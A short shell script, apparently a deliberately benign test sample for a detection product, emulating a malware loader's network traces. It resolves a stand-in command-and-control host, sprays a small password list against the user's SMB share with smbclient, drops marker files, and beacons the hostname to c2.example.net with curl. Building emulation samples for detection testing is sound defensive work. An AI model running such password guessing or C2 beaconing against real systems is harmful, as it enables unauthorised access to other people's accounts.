#!/bin/sh
# DecoyNet's harmless test sample: what a first-stage loader does, seen only on the network. It
# looks up its C&C, tries a short word list for its person's password against the file server's
# SMB (as PurpleFox spreads), leaves a note on their share with the one that works and a file in
# their home, and beacons over HTTP. Nothing else.
getent hosts c2.example.net >/dev/null
user=$(id -un)
note=$(mktemp)
echo "from $(hostname) at $(date -u +%FT%TZ)" >"$note"
for word in 123456 password Welcome1 Harbor2026; do
    smbclient -U "$user%$word" "//files/$user" -c "put $note note-$(hostname).txt" >/dev/null 2>&1 && break
done
rm -f "$note"
echo "beaconed $(date -u +%FT%TZ)" >"$HOME/.cache-update"
curl -s -m 10 -o /dev/null "http://c2.example.net/beacon?host=$(hostname)"
